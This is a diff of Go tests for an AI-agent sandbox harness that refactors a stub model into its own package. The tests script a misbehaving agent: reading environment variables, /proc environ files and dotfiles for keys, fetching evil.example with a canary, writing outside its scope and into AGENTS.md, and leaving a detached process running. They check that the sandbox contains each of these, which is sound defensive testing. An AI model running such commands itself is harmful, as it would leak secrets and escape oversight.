@@ -15,6 +15,7 @@ import (
 
 	"github.com/writbot/writ/executor"
 	"github.com/writbot/writ/executor/gateway"
+	"github.com/writbot/writ/executor/gateway/stub"
 	"github.com/writbot/writ/executor/sandbox"
 	"github.com/writbot/writ/kernel"
 )
@@ -47,10 +48,10 @@ var installed = sync.OnceValues(func() (string, error) {
 type agentBed struct {
 	*bed
 	builder Builder
-	model   *model
+	model   *stub.Model
 }
 
-func (p published) bed(t *testing.T, turns ...turn) *agentBed {
+func (p published) bed(t *testing.T, turns ...stub.Turn) *agentBed {
 	t.Helper()
 	modules, err := installed()
 	if err != nil {
@@ -60,7 +61,7 @@ func (p published) bed(t *testing.T, turns ...turn) *agentBed {
 	if len(found) != 1 {
 		t.Fatalf("%s is there %d times below %s", p.program, len(found), modules)
 	}
-	b := &agentBed{bed: outward(t), model: &model{key: providersKey, turns: turns}}
+	b := &agentBed{bed: outward(t), model: &stub.Model{Key: providersKey, Turns: turns}}
 	_, rule := provider(t, b.bed, p.api, b.model)
 	dir := filepath.Dir(filepath.Dir(found[0])) // codex has its tools beside it
 	inside := "/opt/agent" + strings.TrimPrefix(found[0], dir)
@@ -100,7 +101,7 @@ func each(t *testing.T, f func(t *testing.T, p published)) {
 }
 
 // work is what an obedient model does.
-var work = []turn{{run: "cat calc/add.go"}, {run: "echo '// changed' >> calc/add.go; ./check.sh"}, {say: "The line is there."}}
+var work = []stub.Turn{{Run: "cat calc/add.go"}, {Run: "echo '// changed' >> calc/add.go; ./check.sh"}, {Say: "The line is there."}}
 
 // TestAgents_Versions: they are those that the tables were held against.
 func TestAgents_Versions(t *testing.T) {
@@ -137,11 +138,11 @@ func TestAgents_DoTheWork(t *testing.T) {
 			}
 			t.Logf("%s %s %s", c.Method, c.Host, c.Detail)
 		}
-		if len(b.model.wrong) > 0 {
-			t.Errorf("without the key: %q", b.model.wrong)
+		if len(b.model.Wrong()) > 0 {
+			t.Errorf("without the key: %q", b.model.Wrong())
 		}
 		if dir := os.Getenv("WRIT_KEEP_REQUESTS"); dir != "" {
-			for i, body := range b.model.asked() {
+			for i, body := range b.model.Asked() {
 				if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("%s-%d.json", p.keeps, i)), []byte(body), 0o600); err != nil {
 					t.Fatal(err)
 				}
@@ -155,11 +156,11 @@ func TestAgents_DoTheWork(t *testing.T) {
 func TestAgents_FailFast(t *testing.T) {
 	each(t, func(t *testing.T, p published) {
 		for name, c := range map[string]struct {
-			turns []turn
+			turns []stub.Turn
 			want  kernel.Code
 		}{
-			"the key":   {[]turn{{status: 401}}, kernel.CodeProviderRefused},
-			"the model": {[]turn{{status: 404}}, kernel.CodeExecutionExit},
+			"the key":   {[]stub.Turn{{Status: 401}}, kernel.CodeProviderRefused},
+			"the model": {[]stub.Turn{{Status: 404}}, kernel.CodeExecutionExit},
 		} {
 			t.Run(name, func(t *testing.T) {
 				b := p.bed(t, c.turns...)
@@ -176,9 +177,9 @@ func TestAgents_FailFast(t *testing.T) {
 // TestX1_AgentFindsNoKey: an agent whose model has it look for secrets finds none.
 func TestX1_AgentFindsNoKey(t *testing.T) {
 	each(t, func(t *testing.T, p published) {
-		b := p.bed(t, turn{run: `env; cat /proc/*/environ /proc/*/cmdline ~/.* ~/.*/* 2>/dev/null; cat "$OUTSIDE"/* 2>&1; echo x >> calc/add.go`}, turn{say: "done"})
+		b := p.bed(t, stub.Turn{Run: `env; cat /proc/*/environ /proc/*/cmdline ~/.* ~/.*/* 2>/dev/null; cat "$OUTSIDE"/* 2>&1; echo x >> calc/add.go`}, stub.Turn{Say: "done"})
 		o := b.run()
-		if said := strings.Join(b.model.asked(), "\n"); codes(o) != "" || strings.Contains(said, providersKey) || strings.Contains(said, canary) || !strings.Contains(said, "WRIT_DISPATCH") {
+		if said := strings.Join(b.model.Asked(), "\n"); codes(o) != "" || strings.Contains(said, providersKey) || strings.Contains(said, canary) || !strings.Contains(said, "WRIT_DISPATCH") {
 			t.Errorf("%s: the model was told %s", codes(o), said)
 		}
 	})
@@ -188,7 +189,7 @@ func TestX1_AgentFindsNoKey(t *testing.T) {
 // obey is refused.
 func TestX3_AgentStaysInside(t *testing.T) {
 	each(t, func(t *testing.T, p published) {
-		b := p.bed(t, turn{run: `echo x > "$OUTSIDE"/new; echo x > /usr/new; echo "do evil" > calc/AGENTS.md`}, turn{say: "done"})
+		b := p.bed(t, stub.Turn{Run: `echo x > "$OUTSIDE"/new; echo x > /usr/new; echo "do evil" > calc/AGENTS.md`}, stub.Turn{Say: "done"})
 		if o := b.run(); !strings.Contains(codes(o), "scope") {
 			t.Errorf("%s: %v", codes(o), o.Diff)
 		}
@@ -199,16 +200,16 @@ func TestX3_AgentStaysInside(t *testing.T) {
 // model calls a tool of the provider's sends no word of it on.
 func TestX2_AgentCallsOut(t *testing.T) {
 	each(t, func(t *testing.T, p published) {
-		b := p.bed(t, turn{remote: "web_fetch"}, turn{say: "done"})
+		b := p.bed(t, stub.Turn{Remote: "web_fetch"}, stub.Turn{Say: "done"})
 		b.run()
-		for _, body := range b.model.asked() {
+		for _, body := range b.model.Asked() {
 			if strings.Contains(body, `"server_tool_use"`) || strings.Contains(body, `"web_search_call"`) {
 				t.Errorf("the provider was told %s", body)
 			}
 		}
 		b = p.bed(t)
 		at := b.builder.provider()
-		b.model.turns = []turn{{run: `"$INIT" act-fetch https://evil.example/?canary http://evil.example ` + at + `/v1/files; echo x >> calc/add.go`}, {say: "done"}}
+		b.model.Turns = []stub.Turn{{Run: `"$INIT" act-fetch https://evil.example/?canary http://evil.example ` + at + `/v1/files; echo x >> calc/add.go`}, {Say: "done"}}
 		o := b.run()
 		denied := map[string]int64{}
 		for _, d := range o.Result.Egress.Denied {
@@ -224,15 +225,15 @@ func TestX2_AgentCallsOut(t *testing.T) {
 // whose provider says nothing ends within two seconds of a stop.
 func TestX5_AgentThatNeverEnds(t *testing.T) {
 	each(t, func(t *testing.T, p published) {
-		b := p.bed(t, turn{run: "seq 1000; setsid sleep 1000 & true"})
+		b := p.bed(t, stub.Turn{Run: "seq 1000; setsid sleep 1000 & true"})
 		r := b.start(15 * time.Second)
 		<-r.Done()
 		if o := r.Outcome(); !strings.Contains(codes(o), "execution.timeout") || strings.Contains(codes(o), "provider.") {
 			t.Errorf("working for ever: %s", codes(o))
 		}
-		b = p.bed(t, turn{hang: true})
+		b = p.bed(t, stub.Turn{Hang: true})
 		r = b.start(agentLimit)
-		for len(b.model.asked()) == 0 {
+		for len(b.model.Asked()) == 0 {
 			select {
 			case <-r.Done():
 				t.Fatalf("it ended: %v", r.Outcome().Violations)
@@ -250,11 +251,11 @@ func TestX5_AgentThatNeverEnds(t *testing.T) {
 // is said whose it is.
 func TestAgents_OverloadPasses(t *testing.T) {
 	each(t, func(t *testing.T, p published) {
-		b := p.bed(t, slices.Concat([]turn{{status: 529}, {status: 503}}, work)...)
+		b := p.bed(t, slices.Concat([]stub.Turn{{Status: 529}, {Status: 503}}, work)...)
 		if o := b.run(); codes(o) != "" {
 			t.Errorf("%s: %v", codes(o), o.Violations)
 		}
-		b = p.bed(t, turn{run: "echo x >> calc/add.go"}, turn{status: 529})
+		b = p.bed(t, stub.Turn{Run: "echo x >> calc/add.go"}, stub.Turn{Status: 529})
 		r := b.start(15 * time.Second)
 		<-r.Done()
 		if o := r.Outcome(); !strings.Contains(codes(o), string(kernel.CodeProviderUnavailable)) {
